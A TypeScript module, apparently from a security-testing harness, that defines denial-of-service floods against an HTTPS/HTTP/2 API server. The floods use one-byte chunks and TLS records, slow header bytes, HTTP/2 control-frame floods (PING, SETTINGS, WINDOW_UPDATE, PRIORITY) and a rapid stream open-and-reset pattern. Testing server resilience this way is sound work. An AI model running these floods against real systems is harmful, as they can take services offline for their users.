// Chunks, TLS records and HTTP/2 frames of one byte, on one connection and on many.

import { sleep } from '../kit/fixtures.js'
import { BufferedTlsSocket } from '../kit/network/buffered-tls-socket.js'
import { frame, headerBlock } from '../kit/network/raw-http2.js'
import { listOf } from '../linear/shape.js'
import type { Attack, Outcome, Target } from './attack.js'

const preface = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
/** Maximum time for the server to process the bytes. */
const workMs = 700

interface Flood {
  readonly protocol: 'http/1.1' | 'h2'
  /** Sent before the measurement. */
  readonly opening: string | Buffer
  readonly records: readonly (string | Buffer)[]
}

/** Prepared in advance, so that everything is sent at once. */
async function flood({ server }: Target, connections: number, { protocol, opening, records }: Flood): Promise<Outcome> {
  const sockets = await Promise.all(listOf(connections, () => BufferedTlsSocket.open(server.access, protocol)))
  for (const socket of sockets) {
    await socket.writeRecord(opening)
    socket.startBuffering()
    for (const record of records) await socket.writeRecord(record)
  }
  await sleep(100)
  for (const socket of sockets) socket.flush()
  await sleep(workMs)
  for (const socket of sockets) socket.close()
  return { status: 200, bytes: 0 }
}

const path = '/api/v1/namespaces/default/configmaps'
const authorization = (token?: string): string => (token === undefined ? '' : `Authorization: Bearer ${token}\r\n`)
const postHead = (token?: string): string => `POST ${path} HTTP/1.1\r\nHost: x\r\n${authorization(token)}Content-Type: application/json\r\n`
const bytes = (count: number, character = ' '): string[] => Array.from({ length: count }, () => character)

const h2Head = (token?: string): Buffer =>
  Buffer.concat([
    Buffer.from(preface),
    frame(4, 0, 0),
    frame(
      1,
      0x4,
      1,
      headerBlock({
        ':method': 'POST',
        ':scheme': 'https',
        ':path': path,
        ':authority': 'x',
        ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
      }),
    ),
  ])

type MakeFlood = (token: string | undefined) => Flood

const repeatedRecords = (bytes: Buffer, times: number, records: number): readonly Buffer[] =>
  listOf(records, () => Buffer.concat(listOf(times, () => bytes)))

const floods: Readonly<Record<string, MakeFlood>> = {
  'chunks of one byte': (token) => ({
    protocol: 'http/1.1',
    opening: `${postHead(token)}Transfer-Encoding: chunked\r\n\r\n`,
    records: repeatedRecords(Buffer.from('1\r\n \r\n'), 5000, 20),
  }),
  'records of one byte': (token) => ({
    protocol: 'http/1.1',
    opening: `${postHead(token)}Content-Length: 2000000\r\n\r\n`,
    records: bytes(12_000),
  }),
  'records of one byte in a head': () => ({ protocol: 'http/1.1', opening: 'GET / HTTP/1.1\r\nX: ', records: bytes(12_000, 'a') }),
  'records of one chunk': (token) => ({
    protocol: 'http/1.1',
    opening: `${postHead(token)}Transfer-Encoding: chunked\r\n\r\n`,
    records: bytes(12_000, '1\r\n \r\n'),
  }),
  'frames of one byte': (token) => ({
    protocol: 'h2',
    opening: h2Head(token),
    records: repeatedRecords(frame(0, 0, 1, Buffer.from(' ')), 20_000, 10),
  }),
  'empty frames': (token) => ({
    protocol: 'h2',
    opening: h2Head(token),
    records: repeatedRecords(frame(0, 0, 1), 20_000, 10),
  }),
  'HTTP/2 records of one byte': (token) => ({
    protocol: 'h2',
    opening: Buffer.concat([h2Head(token), frame(0, 0, 1, Buffer.alloc(0)), Buffer.from([0, 0x40, 0, 0, 0, 0, 0, 0, 1])]),
    records: bytes(16_384).concat(...listOf(2, () => [Buffer.from([0, 0x40, 0, 0, 0, 0, 0, 0, 1]).toString('latin1'), ...bytes(16_384)])),
  }),
  WINDOW_UPDATE: () => ({
    protocol: 'h2',
    opening: h2Head(),
    records: repeatedRecords(frame(8, 0, 0, Buffer.from([0, 0, 0, 1])), 10_000, 20),
  }),
  PING: () => ({
    protocol: 'h2',
    opening: h2Head(),
    records: repeatedRecords(frame(6, 0, 0, Buffer.alloc(8)), 10_000, 20),
  }),
  SETTINGS: () => ({
    protocol: 'h2',
    opening: h2Head(),
    records: repeatedRecords(frame(4, 0, 0), 10_000, 20),
  }),
  PRIORITY: () => ({
    protocol: 'h2',
    opening: h2Head(),
    records: listOf(20, () => Buffer.concat(listOf(10_000, (i) => frame(2, 0, 2 * i + 3, Buffer.from([0, 0, 0, 1, 1]))))),
  }),
  'requests and resets': () => ({
    protocol: 'h2',
    opening: Buffer.concat([Buffer.from(preface), frame(4, 0, 0)]),
    records: [
      Buffer.concat(
        listOf(5000, (i) => {
          const stream = 2 * i + 1
          return Buffer.concat([
            frame(1, 0x5, stream, Buffer.from([0x82, 0x84, 0x87, 0x41, 1, 0x78])),
            frame(3, 0, stream, Buffer.from([0, 0, 0, 8])),
          ])
        }),
      ),
    ],
  }),
}

const attackOf = (name: string, make: MakeFlood, connections: number, isAuthenticated: boolean): Attack => ({
  finding: 9,
  limit: isAuthenticated ? 'request' : 'flood',
  name: `${name}, ${connections} connections, ${isAuthenticated ? 'authenticated' : 'anonymous'}`,
  run: (target) => flood(target, connections, make(isAuthenticated ? target.server.access.token : undefined)),
})

export const smallChunkAttacks: readonly Attack[] = Object.entries(floods).flatMap(([name, make]) => [
  attackOf(name, make, 1, true),
  attackOf(name, make, 8, false),
])
